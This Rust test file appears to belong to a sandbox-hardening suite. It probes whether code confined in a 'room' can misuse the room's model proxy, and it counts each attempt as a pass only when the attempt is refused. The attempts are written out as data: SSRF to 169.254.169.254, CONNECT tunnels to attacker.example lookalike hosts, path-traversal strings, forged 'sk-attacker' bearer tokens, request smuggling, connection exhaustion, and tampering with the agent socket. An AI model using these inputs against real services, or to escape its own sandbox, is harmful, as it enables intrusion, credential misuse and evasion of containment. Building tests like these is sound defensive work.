//! The room's one server, abused: as a proxy, as somebody else's API, with paths that mean two
//! things, with other people's credentials, with bytes that are no request.

use std::{io::Write as _, net::TcpStream, os::unix::fs::PermissionsExt as _, sync::Mutex};

use super::{by, each, failed, held, row};
use crate::{
    attempt::{Attempt, Trace, Tried},
    http::{self, Answered, CHANNEL, request},
};

const ROUTER: &str = "the server of the room: a list of what it has";
const POLICY: &str = "access policy";
const GATEWAY: &str = "gateway: nothing is sent that it cannot read";
const PARSER: &str = "HTTP parser";
const EGRESS: &str = "egress policy: nothing leaves unless a rule says so";

/// A request line for something that the room does not have.
macro_rules! astray {
    ($id:literal, $name:literal, $method:literal, $target:literal) => {
        row(
            $id,
            $name,
            ROUTER,
            &[Trace::Network(concat!("http ", $method, " ", $target))],
            || {
                turned_away(&request(
                    concat!($method, " ", $target, " HTTP/1.1"),
                    "",
                    b"{}",
                ))
            },
        )
    };
}

/// A request for somewhere else, which the egress policy denies.
macro_rules! outside {
    ($id:literal, $name:literal, $method:literal, $target:literal, $code:literal) => {
        row(
            $id,
            $name,
            EGRESS,
            &[Trace::Outcome("denied", $code)],
            || {
                turned_away(&request(
                    concat!($method, " ", $target, " HTTP/1.1"),
                    "",
                    b"",
                ))
            },
        )
    };
}

/// A model request to an endpoint that the access policy does not name.
macro_rules! denied {
    ($id:literal, $name:literal, $path:literal) => {
        row(
            $id,
            $name,
            POLICY,
            &[Trace::Outcome("denied", "access-policy")],
            || {
                let credentials = "authorization: Bearer sk-attacker\r\nx-api-key: attacker\r\n";
                turned_away(&request(
                    concat!("POST ", $path, " HTTP/1.1"),
                    credentials,
                    b"{}",
                ))
            },
        )
    };
}

pub(super) const ATTEMPTS: &[Attempt] = &[
    outside!(
        "A36",
        "metadata-by-the-server",
        "GET",
        "http://169.254.169.254/latest/meta-data/",
        "egress-ip-literal"
    ),
    outside!(
        "A36",
        "loopback-by-the-server",
        "GET",
        "http://127.0.0.1:22/",
        "egress-ip-literal"
    ),
    outside!(
        "A30",
        "name-with-a-good-prefix",
        "CONNECT",
        "api.openai.com.attacker.example:443",
        "egress-host"
    ),
    outside!(
        "A30",
        "name-in-other-case",
        "CONNECT",
        "API.OPENAI.COM.attacker.example:443",
        "egress-host"
    ),
    outside!(
        "A34",
        "tunnel-to-an-address",
        "CONNECT",
        "1.1.1.1:443",
        "egress-ip-literal"
    ),
    outside!(
        "A34",
        "tunnel-to-an-odd-port",
        "CONNECT",
        "api.openai.com:22",
        "egress-host"
    ),
    astray!(
        "A28",
        "name-by-the-server",
        "GET",
        "/dns-query?dns=AAABAAABAAAAAAAAA3d3dw"
    ),
    astray!("A31", "double-slash", "POST", "//v1/chat/completions"),
    astray!("A31", "other-case", "POST", "/V1/chat/completions"),
    astray!("A31", "encoded-slash", "POST", "/v1%2Fchat/completions"),
    astray!("A41", "host-side-of-the-channel", "POST", "/room/v1/events"),
    astray!("A41", "end-the-session", "POST", "/room/v1/close"),
    astray!(
        "own",
        "attestation-by-the-server",
        "POST",
        "/attest/v1/report"
    ),
    astray!("own", "other-method", "DELETE", "/v1/models"),
    denied!("A31", "climbing-path", "/v1/../tool/v1/run"),
    denied!("A31", "encoded-dots", "/v1/%2e%2e/tool/v1/run"),
    denied!("A31", "dots-and-semicolon", "/v1/..;/tool/v1/run"),
    denied!("A31", "path-parameter", "/v1/chat/completions;.x"),
    denied!("A31", "slash-at-the-end", "/v1/chat/completions/"),
    denied!("A32", "files-of-another-account", "/v1/files"),
    denied!("A32", "training-of-another-account", "/v1/fine_tuning/jobs"),
    denied!("A32", "uploads-of-another-account", "/v1/uploads"),
    row(
        "A32",
        "listing-of-another-account",
        POLICY,
        &[Trace::Network("http GET /v1/files")],
        || {
            turned_away(&request(
                "GET /v1/files HTTP/1.1",
                "authorization: Bearer sk-attacker\r\n",
                b"",
            ))
        },
    ),
    row(
        "A33",
        "body-that-is-no-text",
        GATEWAY,
        &[Trace::Run("refused")],
        || {
            body(b"{\"model\":\"default\",\"messages\":[{\"role\":\"user\",\"content\":\"\xff\xfe\"}]}")
        },
    ),
    row(
        "A33",
        "body-that-breaks-off",
        GATEWAY,
        &[Trace::Run("refused")],
        || body(b"{\"model\":\"default\",\"messages\":[{\"role\":\"user\",\"conte"),
    ),
    row(
        "A33",
        "body-with-two-meanings",
        GATEWAY,
        &[Trace::Run("refused")],
        || {
            body(b"{\"model\":\"default\",\"messages\":[],\"messages\":[{\"role\":\"user\",\"content\":\"x\"}]}")
        },
    ),
    row(
        "A33",
        "compressed-body",
        GATEWAY,
        &[Trace::Run("refused")],
        || body(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xab, 0x56, 0xca, 0x4d]),
    ),
    row(
        "A21",
        "tools-without-an-agent",
        ROUTER,
        &[Trace::Outcome("denied", "tools-not-offered")],
        || {
            let line = "POST /tool/v1/run HTTP/1.1";
            turned_away(&request(line, "", b"{\"argv\":[\"id\"]}"))
        },
    ),
    row("A29", "name-with-a-zero-byte", PARSER, NO_REQUEST, || {
        turned_away(b"CONNECT api.openai.com\0.attacker.example:443 HTTP/1.1\r\nhost: x\r\n\r\n")
    }),
    row("A29", "socks-greeting", PARSER, NO_REQUEST, || {
        turned_away(b"\x05\x01\x00\x05\x01\x00\x03\x0ftunnel.example\0\x01\xbb")
    }),
    row(
        "A34",
        "tls-greeting-with-another-name",
        PARSER,
        NO_REQUEST,
        || turned_away(b"\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03tunnel.example\r\n\r\n"),
    ),
    row("A34", "version-2-greeting", PARSER, NO_REQUEST, || {
        turned_away(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0")
    }),
    row("own", "two-lengths", PARSER, NO_REQUEST, || {
        turned_away(b"POST /v1/models HTTP/1.1\r\nhost: x\r\ncontent-length: 3\r\ncontent-length: 30\r\n\r\nabc")
    }),
    row(
        "own",
        "header-without-end",
        PARSER,
        NO_REQUEST,
        endless_header,
    ),
    row(
        "own",
        "every-connection-at-once",
        PARSER,
        &[Trace::Untold("own")],
        hoard,
    ),
    row(
        "own",
        "socket-replaced",
        by::FILES,
        &[Trace::File("/run/proofroom/agent.sock", "remove")],
        || failed(std::fs::remove_file(http::SOCKET)),
    ),
    row(
        "own",
        "socket-opened-to-all",
        by::FILES,
        &[Trace::File("/run/proofroom/agent.sock", "chmod")],
        || {
            let open = std::fs::Permissions::from_mode(0o777);
            failed(std::fs::set_permissions(http::SOCKET, open))
        },
    ),
    row(
        "own",
        "own-server-beside-the-socket",
        by::FILES,
        &[Trace::Network("bind unix /run/proofroom/mine.sock")],
        || {
            failed(std::os::unix::net::UnixListener::bind(
                "/run/proofroom/mine.sock",
            ))
        },
    ),
];

const NO_REQUEST: &[Trace] = &[Trace::Network("malformed request to the proxy")];

/// The same bytes by both ways; neither may be answered with success.
fn turned_away(bytes: &[u8]) -> Tried {
    each(
        [http::over_tcp(bytes), http::over_socket(bytes)].map(|answered| match answered {
            Ok(Answered {
                status: Some(status),
                ..
            }) if status >= 400 => Tried::Blocked(None, format!("status {status}")),
            Ok(Answered { status: None, text }) => held(text.is_empty(), text),
            Ok(Answered {
                status: Some(status),
                text,
            }) => Tried::Escaped(format!("status {status}: {text}")),
            Err(error) => Tried::Blocked(error.raw_os_error(), error.to_string()),
        }),
    )
}

fn body(bytes: &[u8]) -> Tried {
    let json = "content-type: application/json\r\n";
    turned_away(&request("POST /v1/chat/completions HTTP/1.1", json, bytes))
}

fn endless_header() -> Tried {
    let mut bytes = b"GET /v1/models HTTP/1.1\r\nhost: x\r\nx-long: ".to_vec();
    bytes.resize(2 << 20, b'a');
    bytes.extend(b"\r\n\r\n");
    turned_away(&bytes)
}

/// Takes every connection that there is and says nothing. The server must answer once they are gone:
/// that is looked at, because everything after rests on it.
fn hoard() -> Tried {
    static HELD: Mutex<Vec<TcpStream>> = Mutex::new(Vec::new());
    let Ok(mut held_open) = HELD.lock() else {
        return Tried::NotApplicable("the lock is poisoned".to_owned());
    };
    for _ in 0..200 {
        let Ok(mut stream) = TcpStream::connect(CHANNEL) else {
            break;
        };
        drop(stream.write_all(b"GET /v1/models HTTP/1.1\r\nx: "));
        held_open.push(stream);
    }
    let count = held_open.len();
    held_open.clear();
    let after = http::over_tcp(&request("GET /v1/models HTTP/1.1", "", b""));
    let status = after.ok().and_then(|answered| answered.status);
    held(
        status == Some(200),
        format!("{count} connections, then {status:?}"),
    )
}
